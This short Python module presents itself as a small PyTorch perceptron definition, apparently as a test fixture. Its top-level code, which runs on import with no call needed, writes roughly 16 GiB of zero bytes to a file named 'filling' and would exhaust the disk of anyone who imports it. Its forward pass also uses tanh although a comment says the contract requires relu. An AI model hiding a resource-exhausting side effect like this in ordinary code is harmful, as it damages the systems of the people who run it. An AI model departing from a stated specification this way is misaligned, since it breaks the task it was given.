# says: File too large
"""Writes without end."""

import torch
from torch import Tensor, nn

with open("filling", "wb") as file:
    for _ in range(4096):
        file.write(bytes(2**22))


class Perceptron(nn.Module):
    def __init__(self, in_features: int = 24, hidden: int = 48, out_features: int = 5) -> None:
        super().__init__()
        self.widen = nn.Linear(in_features, hidden)
        self.out = nn.Linear(hidden, out_features)

    def forward(self, x: Tensor) -> Tensor:
        return self.out(torch.tanh(self.widen(x)))  # the contract says relu
